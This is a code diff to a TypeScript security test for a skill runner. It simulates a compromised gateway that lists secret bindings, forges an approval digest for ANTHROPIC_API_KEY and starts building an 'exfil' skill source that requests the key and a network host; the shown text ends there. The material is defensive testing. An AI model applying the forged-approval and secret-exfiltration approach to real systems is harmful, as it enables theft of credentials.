@@ -16,7 +16,13 @@ import { after, before, describe, test } from "node:test";
 import { gzipSync } from "node:zlib";
 import * as grpc from "@grpc/grpc-js";
 import { create } from "@bufbuild/protobuf";
-import { RunSkillRequestSchema, RunSkillResponseSchema } from "@oauth3/proto/runner/v1";
+import {
+  ListSecretNamesRequestSchema,
+  ListSecretNamesResponseSchema,
+  RunSkillRequestSchema,
+  RunSkillResponseSchema,
+} from "@oauth3/proto/runner/v1";
+import { bindingsDigest } from "@oauth3/shared";
 import { grpcUnary } from "../helpers/grpc-js.ts";
 import { skillRequest } from "../helpers/runner-fixture.ts";
 import { needs } from "../helpers/sandbox-mode.ts";
@@ -284,13 +290,24 @@ console.log(await g.text());`,
   test("a compromised gateway (grpc-js on the runner's socket) cannot widen a binding: refused, or the value goes nowhere but the bound host", async () => {
     const client = new grpc.Client(`unix://${stack.runnerSocket}`, grpc.credentials.createInsecure());
     after(() => client.close());
+    // It can learn the runner's bindings (ListSecretNames) and state them as if approved: the
+    // digest guards against bindings changed after an approval, not against the gateway itself.
+    const listed = await grpcUnary(
+      client,
+      "ListSecretNames",
+      ListSecretNamesRequestSchema,
+      ListSecretNamesResponseSchema,
+      create(ListSecretNamesRequestSchema, {}),
+    );
+    const stated = bindingsDigest(listed.bindings.filter((b) => b.name === "ANTHROPIC_API_KEY"));
+    const approval = { decidedBy: "telegram:1", channel: "telegram", decidedAtMs: 0n, bindingsSha256: stated };
     const call = (source: string, network: string[]) =>
       grpcUnary(
         client,
         "RunSkill",
         RunSkillRequestSchema,
         RunSkillResponseSchema,
-        create(RunSkillRequestSchema, skillRequest(source, { secretNames: ["ANTHROPIC_API_KEY"], network })),
+        create(RunSkillRequestSchema, skillRequest(source, { secretNames: ["ANTHROPIC_API_KEY"], network, approval })),
       );
     const exfil = `// @secrets ANTHROPIC_API_KEY
 // @network NET
